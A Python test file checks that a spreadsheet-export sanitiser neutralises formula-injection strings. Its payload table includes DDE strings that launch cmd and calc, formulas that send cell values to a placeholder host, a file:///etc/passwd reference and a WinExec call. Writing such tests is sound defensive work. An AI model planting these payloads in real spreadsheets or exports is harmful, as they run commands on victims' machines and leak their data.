"""No text that leaves is a formula to the program that opens it (H6, rule 15)."""
# ruff: noqa: RUF001 - signs that look like others are what this is about

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seatdesk.exchange.cell_text import clean
from seatdesk.exchange.writing.formula_injection import harmless, harmless_all, is_formula

# The kinds of payload that public collections list: one of each way in and of each thing done.
PAYLOADS = {
    "sum": "=1+1",
    "command over DDE": "=cmd|' /C calc'!A0",
    "DDE function": '=DDE("cmd";"/C calc";"x")',
    "DDE after a plus": "+cmd|' /C notepad'!'A1'",
    "DDE after a minus": "-cmd|' /C calc'!A0",
    "DDE after an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link that leaks": '=HYPERLINK("http://x.example/?v="&A1;"click")',
    "web service": '=WEBSERVICE("http://x.example/?v="&A1)',
    "import from the web": '=IMPORTXML(CONCAT("http://x.example/?v=";A1);"//a")',
    "picture from the web": '=IMAGE("http://x.example/"&A1)',
    "other workbook": "='file:///etc/passwd'#$passwd.A1",
    "macro call": '=CALL("Kernel32";"WinExec";"JC";"calc")',
    "execute": '=EXEC("calc")',
    "register": '=REGISTER.ID("x";"y")',
    "array": "{=1+1}"[1:],
    "sign before a number": "-2+3+cmd|' /C calc'!A0",
    "number before a name": "+44;=1+1",
    "two equals": "==1+1",
    "minus minus": "--1+cmd|x!A0",
    "at a function": "@A1",
    "tab first": "\t=1+1",
    "carriage return first": "\r=1+1",
    "line break first": "\n=1+1",
    "blank first": " =1+1",
    "no-break space first": "\u00a0=1+1",
    "byte-order mark first": "\ufeff=1+1",
    "zero-width space first": "\u200b=1+1",
    "right-to-left mark first": "\u200f=1+1",
    "control sign first": "\x01=1+1",
    "several blanks first": " \u00a0 \t+1-cmd|x!A0",
    "wide equals": "＝1+1",
    "wide plus": "＋1+cmd",
    "wide minus": "－1+cmd",
    "wide at": "＠SUM(1)",
    "percent of a formula": "=1%",
    "only a sign": "=",
    "dashes": "---",
    "tab alone": "\tname",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_h6_a_formula_becomes_text(payload):
    assert is_formula(payload)
    assert harmless(payload) == f"'{payload}"
    assert harmless_all(["Ada", payload, ""]) == ["Ada", f"'{payload}", ""]


@pytest.mark.parametrize(
    "number", ["-5", "+5", "-5.25", "-1,234.50", "-1.234,50", "+46 8 123 45 67", "-12%", "+0"]
)
def test_numbers_with_a_sign_stay_numbers(number):
    assert harmless(number) == number


@pytest.mark.parametrize(
    "text",
    ["", "Ada", "00042", "O'Brien", "'quoted'", "a=b", "mail+tag@x.example", "5-3", "–", "✓"],
)
def test_what_no_spreadsheet_runs_is_left_alone(text):
    assert harmless(text) == text
    assert harmless_all([text]) == [text]


@given(st.text().map(clean).filter(lambda text: text[:1] != "'"))
def test_the_importer_reads_what_was_written(text):
    written = harmless(text)

    assert not is_formula(written)
    if text[:1] in set("=+-@"):
        assert clean(written) == text


@given(st.lists(st.text(max_size=6), max_size=20))
def test_many_texts_are_made_harmless_as_each_of_them_is(texts):
    assert harmless_all(texts) == [harmless(text) for text in texts]
